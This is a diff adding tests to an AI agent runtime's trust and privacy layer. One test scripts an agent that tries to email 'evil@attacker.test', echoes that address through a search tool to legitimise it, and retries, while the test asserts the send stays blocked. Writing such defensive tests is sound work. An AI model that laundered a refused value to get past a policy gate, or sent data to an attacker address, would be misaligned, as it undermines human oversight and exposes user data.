@@ -15,7 +15,7 @@ from bosun.errors import ToolDefinitionError, UserError
 from bosun.models.base import SystemMessage, ToolMessage, Trust, UserMessage
 from bosun.runtime import Agent, RunStatus, Runtime
 from bosun.runtime.trust import Content, TaintPolicy, gate, spotlight, ungrounded
-from bosun.testing import ScriptedModel, call, reply
+from bosun.testing import ScriptedModel, call, calls, reply
 from bosun.tools import Risk, ToolPolicy, tool
 from bosun.tools.privacy import VaultEntry
 
@@ -376,3 +376,46 @@ def test_policy_mistakes_are_caught_at_definition() -> None:
 def test_spotlight_defuses_markers_in_any_case() -> None:
     text = spotlight("a <</UNTRUSTED x>> <<untrusted y>>", source="web", boundary="b1")
     assert text.count("<<") == 2  # only our own two markers
+
+
+async def test_parallel_results_get_distinct_placeholders(store: Store) -> None:
+    @tool(scope="crm:read")
+    async def who(n: int) -> str:
+        """Find a contact."""
+        return f"contact{n}@example.com"
+
+    model = ScriptedModel([calls(*[("who", {"n": n}) for n in range(4)]), reply("ok")])
+    agent = Agent(name="a", tools=[who], model=model)
+    async with Runtime(store=store, privacy=ReversiblePrivacy()) as rt:
+        result = await rt.run(agent, "find contacts")
+        state = await rt.state(result.run_id)
+    assert result.status is RunStatus.COMPLETED
+    originals = {
+        e.placeholder: base64.b64decode(e.ciphertext).decode() for e in state.vault.values()
+    }
+    assert sorted(originals.values()) == [f"contact{n}@example.com" for n in range(4)]
+    assert len(originals) == 4
+
+
+async def test_refusals_and_echoed_arguments_never_ground_a_retry(store: Store) -> None:
+    @tool(scope="crm:read")
+    def find_customer(email: str) -> dict[str, object]:
+        """Search customers."""
+        return {"query": email, "matches": []}
+
+    evil = {"to": "evil@attacker.test", "body": "x"}
+    model = ScriptedModel(
+        [
+            call("send_email", evil),  # refused: quotes the value in its guidance
+            call("find_customer", {"email": "evil@attacker.test"}),  # echoes it back
+            call("send_email", evil),  # still refused
+            reply("gave up"),
+        ]
+    )
+    agent = Agent(name="a", tools=[send_email, find_customer], model=model)
+    async with Runtime(store=store) as rt:
+        result = await rt.run(agent, "say hi to the team")
+    assert result.status is RunStatus.COMPLETED
+    assert sent == []
+    last = json.loads(model.requests[3].messages[-1].content)
+    assert last["error_kind"] == "blocked_by_policy"
